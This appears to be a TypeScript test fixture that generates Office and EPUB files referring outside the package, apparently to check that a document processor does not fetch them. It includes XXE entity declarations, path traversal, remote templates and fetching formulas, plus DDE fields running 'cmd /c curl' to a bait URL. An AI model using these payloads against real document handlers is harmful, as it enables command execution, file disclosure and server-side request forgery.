// Office documents and books that refer to what is outside the package: relations, fields, links of formulas, entities.
import { type ZipParts, zipOf } from '../support/zip.ts';
import { type Bait, type BaitedDocuments, doctypes, visible } from './bait.ts';

const office = 'http://schemas.openxmlformats.org/';
const relationType = `${office}officeDocument/2006/relationships/`;
type Related = readonly [type: string, target: string, external?: boolean];
const relations = (...list: readonly Related[]) =>
  `<Relationships xmlns="${office}package/2006/relationships">${list
    .map(
      ([type, target, external = false], at) =>
        `<Relationship Id="rId${at + 1}" Type="${relationType}${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`;
const spaces = `xmlns:r="${office}officeDocument/2006/relationships" xmlns:a="${office}drawingml/2006/main" xmlns:pic="${office}drawingml/2006/picture" xmlns:wp="${office}drawingml/2006/wordprocessingDrawing" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`;

const word = `xmlns:w="${office}wordprocessingml/2006/main" ${spaces}`;
const wordText = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const docx = (body: string, related: readonly Related[] = [], more: ZipParts = {}, type = '') =>
  zipOf({
    '_rels/.rels': relations(['officeDocument', 'word/document.xml']),
    'word/document.xml': `${type}<w:document ${word}><w:body>${wordText(visible)}${body}</w:body></w:document>`,
    'word/_rels/document.xml.rels': relations(...related),
    ...more,
  });
const picture = (attribute: string) =>
  `<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/></pic:nvPicPr><pic:blipFill><a:blip ${attribute}/></pic:blipFill></pic:pic>`;
const drawing = (attribute: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="999999" cy="999999"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="${office}drawingml/2006/picture">${picture(attribute)}</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const field = (code: string) => `<w:p><w:fldSimple w:instr=" ${code} "><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>`;

function wordDocuments(bait: Bait): BaitedDocuments {
  const { url, file, fileUrl, share } = bait;
  const quoted = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  const setting = (inside: string, ...related: readonly Related[]): Uint8Array =>
    docx('', [['settings', 'settings.xml']], {
      'word/settings.xml': `<w:settings ${word}>${inside}</w:settings>`,
      'word/_rels/settings.xml.rels': relations(...related),
    });
  const linked = (at: string) => docx(drawing('r:link="rId1"'), [['image', at, true]]);
  return {
    'docx: a picture at an address': ['a.docx', linked(`${url}/p.png`)],
    'docx: a picture in a file': ['a.docx', linked(fileUrl)],
    'docx: a picture by its path': ['a.docx', linked(file)],
    'docx: a picture on a share': ['a.docx', linked(share)],
    'docx: an embedded picture that is outside': [
      'a.docx',
      docx(drawing('r:embed="rId1"'), [['image', fileUrl, true]]),
    ],
    'docx: a picture up the tree': [
      'a.docx',
      docx(drawing('r:embed="rId1"'), [['image', `../../../../../../../..${file}`]]),
    ],
    'docx: an old picture': [
      'a.docx',
      docx(
        `<w:p><w:r><w:pict><v:shape><v:imagedata r:href="rId1" o:href="${url}/o.png" src="${fileUrl}"/></v:shape></w:pict></w:r></w:p>`,
        [['image', url, true]],
      ),
    ],
    'docx: a template': [
      'a.docx',
      setting('<w:attachedTemplate r:id="rId1"/>', ['attachedTemplate', `${url}/t.dotm`, true]),
    ],
    'docx: letters from a source': [
      'a.docx',
      setting(
        '<w:mailMerge><w:dataSource r:id="rId1"/><w:headerSource r:id="rId2"/></w:mailMerge>',
        ['mailMergeSource', fileUrl, true],
        ['mailMergeHeaderSource', `${url}/h`, true],
      ),
    ],
    'docx: frames': [
      'a.docx',
      docx('', [['webSettings', 'web.xml']], {
        'word/web.xml': `<w:webSettings ${word}><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
        'word/_rels/web.xml.rels': relations(['frame', `${url}/frame`, true]),
      }),
    ],
    'docx: a linked object': [
      'a.docx',
      docx(
        '<w:p><w:r><w:object><v:shape/><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>',
        [['oleObject', share, true]],
      ),
    ],
    'docx: documents in parts': [
      'a.docx',
      docx('<w:subDoc r:id="rId1"/><w:altChunk r:id="rId2"/><w:altChunk r:id="rId3"/>', [
        ['subDocument', fileUrl, true],
        ['aFChunk', `${url}/chunk.html`, true],
        ['aFChunk', file],
      ]),
    ],
    'docx: fields that include': [
      'a.docx',
      docx(
        [
          `INCLUDETEXT "${file}"`,
          `INCLUDEPICTURE "${url}/f.png" \\d`,
          `DDEAUTO c:\\cmd "/c curl ${url}"`,
          `LINK Excel.Sheet "${share}" A1`,
          `IMPORT "${fileUrl}"`,
          `RD "${file}"`,
          `DATABASE \\d "${file}"`,
          `HYPERLINK "${fileUrl}"`,
        ]
          .map((code) => field(quoted(code)))
          .join(''),
      ),
    ],
    'docx: a chunk of HTML': [
      'a.docx',
      docx('<w:altChunk r:id="rId1"/>', [['aFChunk', 'chunk.html']], {
        'word/chunk.html': `<html><body><p>x</p><img src="${url}/c.png"><img src="${fileUrl}"><iframe src="${url}/i"></iframe></body></html>`,
      }),
    ],
    'docx: a drawing that draws another': [
      'a.docx',
      docx(drawing('r:embed="rId1"'), [['image', 'media/i.svg']], {
        'word/media/i.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"><image xlink:href="${fileUrl}" href="${url}/s.png" width="300" height="200"/></svg>`,
      }),
    ],
    'docx: film and fonts': [
      'a.docx',
      docx(
        '',
        [
          ['video', `${url}/v.mp4`, true],
          ['fontTable', 'fonts.xml'],
          ['hyperlink', fileUrl, true],
        ],
        {
          'word/fonts.xml': `<w:fonts ${word}><w:font w:name="x"><w:embedRegular r:id="rId1"/></w:font></w:fonts>`,
          'word/_rels/fonts.xml.rels': relations(['font', `${url}/f.odttf`, true]),
        },
      ),
    ],
    ...Object.fromEntries(
      Object.entries(doctypes(bait)).map(([title, type]) => [
        `docx: ${title}`,
        ['a.docx', docx(wordText('&x;'), [], {}, type)] as const,
      ]),
    ),
    'docx: entities in every other part': [
      'a.docx',
      docx(
        '',
        [
          ['styles', 'styles.xml'],
          ['footnotes', 'notes.xml'],
        ],
        Object.fromEntries(
          ['word/styles.xml', 'word/notes.xml', 'docProps/core.xml', '[Content_Types].xml'].map((name) => [
            name,
            `<!DOCTYPE r [<!ENTITY x SYSTEM "${fileUrl}">]><r ${word}>&x;</r>`,
          ]),
        ),
      ),
    ],
    'docx: entities in the relations': [
      'a.docx',
      docx('', [], {
        'word/_rels/document.xml.rels': `<!DOCTYPE r [<!ENTITY x SYSTEM "${url}/rels">]>${relations(['image', '&x;'])}`,
      }),
    ],
    'docx: the document itself is elsewhere': [
      'a.docx',
      docx('', [], { '_rels/.rels': relations(['officeDocument', fileUrl, true]) }),
    ],
  };
}

const sheetSpace = `xmlns="${office}spreadsheetml/2006/main" ${spaces}`;
function sheetDocuments({ url, file, fileUrl, share }: Bait): BaitedDocuments {
  const xlsx = (
    rows: string,
    after = '',
    related: readonly Related[] = [],
    more: ZipParts = {},
    book: readonly Related[] = [],
  ) =>
    zipOf({
      '_rels/.rels': relations(['officeDocument', 'xl/workbook.xml']),
      'xl/workbook.xml': `<workbook ${sheetSpace}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="n">'${share}[a.xlsx]S'!A1</definedName></definedNames></workbook>`,
      'xl/_rels/workbook.xml.rels': relations(['worksheet', 'worksheets/sheet1.xml'], ...book),
      'xl/worksheets/sheet1.xml': `<worksheet ${sheetSpace}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${visible}</t></is></c></row>${rows}</sheetData>${after}</worksheet>`,
      'xl/worksheets/_rels/sheet1.xml.rels': relations(...related),
      ...more,
    });
  const formula = (text: string, at: number) => `<row r="${at}"><c r="A${at}"><f>${text}</f><v>1</v></c></row>`;
  return {
    'xlsx: another workbook': [
      'a.xlsx',
      xlsx(
        formula('[1]S!A1', 2),
        '',
        [],
        {
          'xl/externalLinks/e.xml': `<externalLink ${sheetSpace}><externalBook r:id="rId1"/></externalLink>`,
          'xl/externalLinks/_rels/e.xml.rels': relations(['externalLinkPath', fileUrl, true]),
        },
        [['externalLink', 'externalLinks/e.xml']],
      ),
    ],
    'xlsx: a conversation with a program': [
      'a.xlsx',
      xlsx(
        '',
        '',
        [],
        {
          'xl/externalLinks/e.xml': `<externalLink ${sheetSpace}><ddeLink ddeService="cmd" ddeTopic="/c curl ${url}"/></externalLink>`,
        },
        [['externalLink', 'externalLinks/e.xml']],
      ),
    ],
    'xlsx: formulas that fetch': [
      'a.xlsx',
      xlsx(
        [
          `WEBSERVICE("${url}/w")`,
          `FILTERXML(WEBSERVICE("${url}/x"),"//a")`,
          `HYPERLINK("${fileUrl}")`,
          `IMAGE("${url}/i.png")`,
          `'${share}[a.xlsx]S'!A1`,
          `RTD("x","${url}","y")`,
        ]
          .map((text, at) => formula(text.replaceAll('"', '&quot;'), at + 2))
          .join(''),
      ),
    ],
    'xlsx: web pages and queries': [
      'a.xlsx',
      xlsx(
        '',
        '<webPublishItems><webPublishItem id="1" destinationFile="x"/></webPublishItems>',
        [
          ['queryTable', '../q.xml'],
          ['hyperlink', fileUrl, true],
        ],
        {
          'xl/q.xml': `<queryTable ${sheetSpace} name="q" connectionId="1"/>`,
          'xl/connections.xml': `<connections ${sheetSpace}><connection id="1" type="4" refreshOnLoad="1" sourceFile="${file}"><webPr url="${url}/query"/><dbPr connection="Provider=X;Data Source=${file}"/></connection></connections>`,
        },
        [['connections', 'connections.xml']],
      ),
    ],
    'xlsx: linked pictures': [
      'a.xlsx',
      xlsx(
        '',
        '<drawing r:id="rId1"/><picture r:id="rId2"/><legacyDrawing r:id="rId3"/>',
        [
          ['drawing', '../d.xml'],
          ['image', `${url}/back.png`, true],
          ['vmlDrawing', fileUrl, true],
        ],
        {
          'xl/d.xml': `<xdr:wsDr xmlns:xdr="${office}drawingml/2006/spreadsheetDrawing" ${spaces}><xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:row>0</xdr:row></xdr:from>${picture('r:link="rId1"').replaceAll('pic:', 'xdr:')}<xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>`,
          'xl/_rels/d.xml.rels': relations(['image', fileUrl, true]),
        },
      ),
    ],
    'xlsx: entities in strings': [
      'a.xlsx',
      xlsx(
        '<row r="2"><c r="A2" t="s"><v>0</v></c></row>',
        '',
        [],
        {
          'xl/sharedStrings.xml': `<!DOCTYPE r [<!ENTITY x SYSTEM "${fileUrl}">]><sst ${sheetSpace}><si><t>&x;</t></si></sst>`,
        },
        [['sharedStrings', 'sharedStrings.xml']],
      ),
    ],
    'xlsx: strings elsewhere': [
      'a.xlsx',
      xlsx('<row r="2"><c r="A2" t="s"><v>0</v></c></row>', '', [], {}, [
        ['sharedStrings', `${url}/strings.xml`, true],
        ['styles', fileUrl, true],
      ]),
    ],
  };
}

const slideSpace = `xmlns:p="${office}presentationml/2006/main" ${spaces}`;
function slideDocuments({ url, fileUrl, share }: Bait): BaitedDocuments {
  const shape = `<p:sp><p:nvSpPr><p:cNvPr id="2" name="x"/></p:nvSpPr><p:txBody><a:p><a:r><a:t>${visible}</a:t></a:r></a:p></p:txBody></p:sp>`;
  const pptx = (shapes: string, related: readonly Related[], type = '') =>
    zipOf({
      '_rels/.rels': relations(['officeDocument', 'ppt/presentation.xml']),
      'ppt/presentation.xml': `<p:presentation ${slideSpace}><p:sldIdLst><p:sldId id="256" r:id="rId1"/><p:sldId id="257" r:id="rId2"/></p:sldIdLst></p:presentation>`,
      'ppt/_rels/presentation.xml.rels': relations(
        ['slide', 'slides/slide1.xml'],
        ['slide', `${url}/slide2.xml`, true],
      ),
      'ppt/slides/slide1.xml': `${type}<p:sld ${slideSpace}><p:cSld><p:spTree>${shape}${shapes}</p:spTree></p:cSld></p:sld>`,
      'ppt/slides/_rels/slide1.xml.rels': relations(...related),
    });
  const media = (inside: string, blip: string) =>
    `<p:pic><p:nvPicPr><p:cNvPr id="3" name="m"/><p:nvPr>${inside}</p:nvPr></p:nvPicPr><p:blipFill><a:blip ${blip}/></p:blipFill></p:pic>`;
  return {
    'pptx: film and sound': [
      'a.pptx',
      pptx(
        media('<a:videoFile r:link="rId1"/>', 'r:link="rId2"') +
          media('<a:audioFile r:link="rId3"/>', 'r:embed="rId3"'),
        [
          ['video', `${url}/v.mp4`, true],
          ['image', fileUrl, true],
          ['audio', share, true],
        ],
      ),
    ],
    'pptx: a linked object': [
      'a.pptx',
      pptx(
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="o"/></p:nvGraphicFramePr><a:graphic><a:graphicData><p:oleObj r:id="rId1" progId="Excel.Sheet"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>',
        [
          ['oleObject', fileUrl, true],
          ['slideLayout', `${url}/layout.xml`, true],
          ['notesSlide', fileUrl, true],
          ['chart', `${url}/chart.xml`, true],
        ],
      ),
    ],
    'pptx: an entity': [
      'a.pptx',
      pptx(shape.replace(visible, '&x;'), [], `<!DOCTYPE r [<!ENTITY x SYSTEM "${fileUrl}">]>`),
    ],
  };
}

function books(bait: Bait): BaitedDocuments {
  const { url, file, fileUrl } = bait;
  const chapter = (body: string, head = '', type = '') =>
    `${type}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title>${head}</head><body><p>${visible}</p>${body}</body></html>`;
  const epub = (text: string, items = '', type = '', container = '') =>
    zipOf([
      { name: 'mimetype', content: 'application/epub+zip', stored: true },
      {
        name: 'META-INF/container.xml',
        content: `${container}<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>`,
      },
      {
        name: 'b.opf',
        content: `${type}<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>T${type === '' ? '' : '&x;'}</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>${items}</manifest><spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>`,
      },
      { name: 'a.xhtml', content: text },
    ]);
  const types = doctypes(bait);
  const entity = types['a file as an entity'] ?? '';
  return {
    'epub: pictures': [
      'a.epub',
      epub(
        chapter(
          `<img src="${url}/p.png" alt="p"/><img src="${fileUrl}" alt="q"/><img src="../../../../../..${file}" alt="r"/><svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/s.png"/></svg><object data="${fileUrl}"/><iframe src="${url}/i"/>`,
          `<link rel="stylesheet" href="${url}/s.css"/><style>@import url(${fileUrl});</style><script src="${url}/s.js"/>`,
        ),
      ),
    ],
    'epub: chapters elsewhere': [
      'a.epub',
      epub(
        chapter(''),
        `<item id="b" href="${url}/b.xhtml" media-type="application/xhtml+xml"/><item id="c" href="${fileUrl}" media-type="application/xhtml+xml"/><item id="n" href="../../../../../..${file}" properties="nav" media-type="application/xhtml+xml"/>`,
      ),
    ],
    'epub: an entity in a chapter': ['a.epub', epub(chapter('<p>&x;</p>', '', entity))],
    'epub: an entity in the package': ['a.epub', epub(chapter(''), '', entity)],
    'epub: an entity in the container': ['a.epub', epub(chapter(''), '', '', types['a parameter entity'] ?? '')],
  };
}

export const baitedPackages = (bait: Bait): BaitedDocuments => ({
  ...wordDocuments(bait),
  ...sheetDocuments(bait),
  ...slideDocuments(bait),
  ...books(bait),
});
